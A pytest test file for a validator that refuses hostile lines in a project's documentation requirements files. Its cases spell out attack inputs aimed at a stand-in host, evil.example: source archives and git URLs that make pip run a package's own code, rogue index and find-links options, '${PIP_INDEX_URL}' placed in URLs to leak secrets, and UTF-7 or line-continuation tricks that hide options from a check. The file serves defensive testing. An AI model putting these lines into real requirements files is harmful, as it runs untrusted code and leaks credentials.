"""What a tree asks for, for its documentation: nothing by which pip runs a package's own code, asks
another server, or tells what the environment holds.
"""

from __future__ import annotations

import pytest

from doit_receipts.errors import StepFailed
from plugins.model.docs_requirements import gathered, refuse_building

GOOD = """# -*- coding: utf-8 -*-
# Requirements to build the Python documentation, without ${ANY} index of their own
#
# Keep this version in sync with ``Doc/conf.py``.
sphinx~=8.2.0

blurb
sphinxext-opengraph>=0.7.5  # see needs_sphinx
sphinx[docs]==8.2; python_version >= "3.11" and sys_platform != 'win32'
python-docs-theme>=2023.3.1,!=2023.7
toy @ https://files.example/toy-1.0-py3-none-any.whl#sha256=aa
toy==1.0 \\
    --hash=sha256:aa \\
    --hash=sha256:bb
--no-index
-c constraints.txt
"""


def test_what_branches_ask_for_is_taken() -> None:
    refuse_building({"requirements.txt": GOOD.encode(), "constraints.txt": b"docutils<0.22\n"})


@pytest.mark.parametrize(
    "line",
    [
        "--no-binary :all:", "--no-binary=evil", "--no-bin evil", "evil --no-binary evil",
        'evil --hash=sha256:aa "--no-binary" evil', "--no-\\\nbinary evil",
        "--only-binary :none:", "evil @ https://evil.example/evil.tar.gz?x.whl",
        "evil @ git+https://evil.example/evil.whl", "evil @ https://evil.example/evil.tgz#x.whl",
        "-e .", "-e.", "--editable=./evil", "./evil", "evil.tar.gz", "/tmp/evil", "evil/setup",
        "evil @ https://evil.example/evil-1.0.tar.gz", "evil@git+https://evil.example/evil",
        "https://evil.example/evil-1.0.zip", "git+ssh://evil.example/evil.git#egg=evil",
        "-r https://evil.example/more.txt", "-c ../more.txt", "--requirement=/tmp/more.txt",
        "--pre -r https://evil.example/more.txt", "-c constraints.txt -r https://evil.example/more",
        "-r\thttps://evil.example/more.txt",
    ],
)  # fmt: skip
def test_what_would_run_a_packages_own_code_is_refused(line: str) -> None:
    with pytest.raises(StepFailed, match="may run a package's own code") as caught:
        refuse_building({"requirements.txt": f"{GOOD}{line}\nmore\n".encode()})
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        "--find-links https://evil.example/${PIP_INDEX_URL}", "blurb==${HTTPS_PROXY}",
        "toy @ https://evil.example/${PIP_INDEX_URL}/toy-1.0-py3-none-any.whl", "-c ${HOME}.txt",
        "toy @ https://evil.example/$\\\n{PIP_INDEX_URL}/toy-1.0-py3-none-any.whl",
        "toy @ https://evil.example/$\\\n\\{PIP_\\\nINDEX_URL}/toy-1.0-py3-none-any.whl",
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["requirements.txt", "constraints.txt"])
def test_what_would_tell_others_what_the_environment_holds_is_refused(name: str, line: str) -> None:
    """Pip puts the value in place of ``${NAME}``, and an index's address may have a password."""
    with pytest.raises(StepFailed, match="a value of your environment") as caught:
        refuse_building({"requirements.txt": GOOD.encode(), name: f"{GOOD}{line}\n".encode()})
    assert caught.value.where == f"the tree's Doc/{name}:{GOOD.count(chr(10)) + 1}"
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple", "--index-url=https://evil.example/simple",
        "-i https://evil.example/simple", "-ihttps://evil.example/simple", "--index https://evil",
        "--pypi-url https://evil.example/", "--extra-index-url https://evil.example/simple",
        "--extra https://evil.example/", "--find-links https://evil.example/", "-f evil.example",
        "--trusted-host evil.example", "--pre --find-links https://evil.example/",
        "-c constraints.txt -i https://evil.example/", "--find-\\\nlinks https://evil.example/",
    ],
)  # fmt: skip
def test_another_server_is_refused(line: str) -> None:
    with pytest.raises(StepFailed, match="would ask a server that is not yours") as caught:
        refuse_building({"requirements.txt": f"blurb\n\n{line}\n".encode()})
    assert caught.value.where == "the tree's Doc/requirements.txt:3"
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        "# coding: utf-7\n+AC0ALQ-no-binary evil\n",
        "# the next word counts, too\v coding: utf-7\n+AC0ALQ-no-binary evil\n",
    ],
)
def test_a_file_that_pip_would_decode_otherwise_is_refused(text: str) -> None:
    with pytest.raises(StepFailed, match="utf-7"):
        refuse_building(gathered({"requirements.txt": text}.get))


def test_a_mark_at_the_beginning_hides_nothing() -> None:
    files = {"requirements.txt": "\ufeff-c more.txt\n", "more.txt": "\ufeff--no-binary :all:\n"}
    with pytest.raises(StepFailed, match=r"Doc/more\.txt:1: .*--no-binary"):
        refuse_building(gathered(files.get))
    as_utf_16 = "--no-binary :all:\n".encode("utf-16").decode("utf-8", "replace")
    with pytest.raises(StepFailed, match="is not UTF-8"):
        refuse_building({"requirements.txt": as_utf_16.encode()})
